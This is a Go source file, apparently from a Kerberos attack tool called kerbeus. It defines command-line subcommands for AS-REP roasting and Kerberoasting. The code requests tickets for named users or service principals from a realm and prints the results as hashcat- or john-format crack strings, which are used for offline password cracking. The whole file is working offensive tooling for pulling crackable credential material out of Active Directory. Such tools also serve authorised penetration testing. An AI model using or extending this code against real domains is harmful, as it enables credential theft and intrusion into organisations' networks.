package main

import (
	"context"
	"flag"
	"fmt"
	"os"

	"github.com/sprout-sec/kerbeus-go/krbuser"
)

func runASREPRoast(args []string) error {
	fs := flag.NewFlagSet("asreproast", flag.ExitOnError)
	var common commonFlags
	common.register(fs)
	user := fs.String("user", "", "username to probe")
	format := fs.String("format", "hashcat", "crack-string format: hashcat or john")
	if err := fs.Parse(args); err != nil {
		return err
	}
	common.applyLogLevel()

	o, err := common.orchestrator()
	if err != nil {
		return err
	}

	crack, err := o.ASREPRoast(context.Background(), common.realm, *user, crackFormat(*format))
	if err != nil {
		return err
	}
	fmt.Println(crack)
	return nil
}

func runKerberoast(args []string) error {
	fs := flag.NewFlagSet("kerberoast", flag.ExitOnError)
	var common commonFlags
	var key keyFlags
	common.register(fs)
	key.register(fs)
	user := fs.String("user", "", "username requesting the service tickets")
	servicesPath := fs.String("services", "", "path to a newline-separated service list (user, domain/user, user:spn, domain/user:spn)")
	format := fs.String("format", "hashcat", "crack-string format: hashcat or john")
	if err := fs.Parse(args); err != nil {
		return err
	}
	common.applyLogLevel()

	o, err := common.orchestrator()
	if err != nil {
		return err
	}
	principal := krbuser.NewKrbUser(*user, common.realm)
	k, err := key.resolve(principal)
	if err != nil {
		return err
	}

	lines, err := readLines(*servicesPath)
	if err != nil {
		return err
	}

	crackStrings, errsOut := o.Kerberoast(context.Background(), principal, k, lines, crackFormat(*format))
	for _, c := range crackStrings {
		fmt.Println(c)
	}
	for _, e := range errsOut {
		fmt.Fprintf(os.Stderr, "kerbeus: %v\n", e)
	}
	return nil
}
